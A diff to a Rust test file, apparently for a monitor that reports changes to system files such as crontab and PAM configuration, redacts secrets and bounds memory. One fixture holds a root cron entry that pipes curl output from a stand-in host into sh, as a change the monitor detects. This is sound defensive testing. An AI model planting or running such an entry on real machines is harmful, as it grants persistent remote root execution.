@@ -41,6 +41,8 @@ fn only_what_is_new_is_told_and_how_much_is_gone() {
     assert_eq!(change.kind, ChangeKind::Cron);
     assert_eq!(change.added, ["* * * * * root curl http://198.51.100.9 | sh"]);
     assert_eq!((change.added_count, change.removed_count), (1, 1));
+    // Of two that were alike one is gone, told as it is kept.
+    assert_eq!(change.removed, ["1 * * * * root /bin/a"]);
     // It is known from then on.
     assert_eq!(changes.find(&seen("/etc/crontab", &crontab)), None);
 
@@ -89,6 +91,26 @@ fn long_files_programs_links_and_set_uid_files_are_told_of_without_lines() {
 }
 
 #[test]
+fn of_small_files_what_is_gone_is_told_without_secrets_and_memory_is_bounded() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("file");
+    let mut changes = Changes::new();
+    fs::write(&path, "auth required pam_x.so\nX_TOKEN=hush\nY=1\n").unwrap();
+    changes.find(&seen("/etc/pam.d/x", &path)).unwrap();
+    fs::write(&path, "Y=1\n").unwrap();
+    let change = changes.find(&seen("/etc/pam.d/x", &path)).unwrap();
+    assert_eq!(change.removed, ["auth required pam_x.so", "X_TOKEN=…"]);
+    assert_eq!((change.added_count, change.removed_count), (0, 2));
+    for at in 0..2000 {
+        fs::write(&path, format!("{at}\n{}", "0123456789abcde\n".repeat(100))).unwrap();
+        changes.find(&seen(&format!("/etc/cron.d/{at}"), &path)).unwrap();
+        assert!(changes.texts <= TEXTS);
+    }
+    let held: usize = changes.known.iter().map(|(_, known)| known.bytes()).sum();
+    assert_eq!(held, changes.texts);
+}
+
+#[test]
 fn memory_is_bounded() {
     let folder = tempfile::tempdir().unwrap();
     let path = folder.path().join("file");
@@ -100,6 +122,6 @@ fn memory_is_bounded() {
         assert_eq!((change.added.len(), change.added_count), (TOLD, 10_000));
         assert!(changes.lines <= LINES);
     }
-    let held: usize = changes.known.iter().map(|(_, lines)| lines.len()).sum();
+    let held: usize = changes.known.iter().map(|(_, known)| known.hashes.len()).sum();
     assert_eq!(held, changes.lines);
 }
